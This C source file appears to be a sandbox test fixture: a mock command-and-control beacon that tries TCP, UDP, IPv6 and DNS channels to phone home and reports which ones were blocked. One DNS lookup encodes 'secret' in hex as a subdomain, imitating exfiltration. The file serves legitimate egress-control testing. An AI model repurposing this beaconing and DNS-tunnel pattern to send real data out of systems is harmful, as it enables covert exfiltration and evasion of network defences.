/* HOSTILE TEST FIXTURE: the compiled (C) twin of sample-tools/c2-beacon: same arguments, output
 * and exit status, run natively. It tries every network channel it is given to phone home with
 * `beacon:c2-beacon`; the sandbox must block each one unless a policy grants it.
 *
 *   c2-beacon [--tcp-ip IP:PORT] [--tcp-name NAME:PORT] [--dns DOMAIN] [--udp IP:PORT] [--ipv6 [ADDR]:PORT]
 *
 * One line per channel: `<channel>: ok` or `<channel>: blocked: <error>`. Exit 0 if any channel
 * got through, 3 if all were blocked, 2 on bad arguments. Built by `./dev setup` with `cc`. */
#include <errno.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char PAYLOAD[] = "beacon:c2-beacon";

/* Splits "host:port" or "[v6]:port" into `host` (brackets removed) and `port`. */
static int split(const char *target, char *host, size_t n, const char **port) {
    const char *colon = strrchr(target, ':');
    if (!colon || (size_t)(colon - target) >= n) return -1;
    const char *start = target, *end = colon;
    if (*start == '[' && end > start && end[-1] == ']') { start++; end--; }
    memcpy(host, start, (size_t)(end - start));
    host[end - start] = 0;
    *port = colon + 1;
    return 0;
}

static int send_to(const char *target, int type, char *err, size_t n) {
    char host[256];
    const char *port;
    if (split(target, host, sizeof host, &port)) { snprintf(err, n, "not HOST:PORT: %s", target); return -1; }
    struct addrinfo hints = {0}, *ai;
    hints.ai_socktype = type;
    int rc = getaddrinfo(host, port, &hints, &ai);
    if (rc) { snprintf(err, n, "lookup %s: %s", host, gai_strerror(rc)); return -1; }
    int s = socket(ai->ai_family, ai->ai_socktype, 0);
    int ok = s >= 0 && (type == SOCK_DGRAM
        ? sendto(s, PAYLOAD, strlen(PAYLOAD), 0, ai->ai_addr, ai->ai_addrlen) >= 0
        : connect(s, ai->ai_addr, ai->ai_addrlen) == 0 && write(s, "beacon:c2-beacon\n", 17) == 17);
    if (!ok) snprintf(err, n, "%s %s: %s", type == SOCK_DGRAM ? "send to" : "connect", target, strerror(errno));
    if (s >= 0) close(s);
    freeaddrinfo(ai);
    return ok ? 0 : -1;
}

static int dns(const char *domain, char *err, size_t n) {
    char name[300];
    snprintf(name, sizeof name, "736563726574.%s", domain);
    struct addrinfo *ai;
    int rc = getaddrinfo(name, NULL, NULL, &ai);
    if (rc) { snprintf(err, n, "lookup %s: %s", name, gai_strerror(rc)); return -1; }
    freeaddrinfo(ai);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 3 || argc % 2 == 0) goto usage;
    int any = 0;
    for (int i = 1; i + 1 < argc; i += 2) {
        const char *ch = argv[i] + 2, *target = argv[i + 1];
        char err[512] = "";
        int rc;
        if (strncmp(argv[i], "--", 2)) goto usage;
        if (!strcmp(ch, "tcp-ip") || !strcmp(ch, "tcp-name") || !strcmp(ch, "ipv6")) rc = send_to(target, SOCK_STREAM, err, sizeof err);
        else if (!strcmp(ch, "udp")) rc = send_to(target, SOCK_DGRAM, err, sizeof err);
        else if (!strcmp(ch, "dns")) rc = dns(target, err, sizeof err);
        else goto usage;
        if (rc == 0) { printf("%s: ok\n", ch); any = 1; } else printf("%s: blocked: %s\n", ch, err);
    }
    return any ? 0 : 3;
usage:
    fprintf(stderr, "usage: c2-beacon [--tcp-ip IP:PORT] [--tcp-name NAME:PORT] [--dns DOMAIN] [--udp IP:PORT] [--ipv6 [ADDR]:PORT]\n");
    return 2;
}
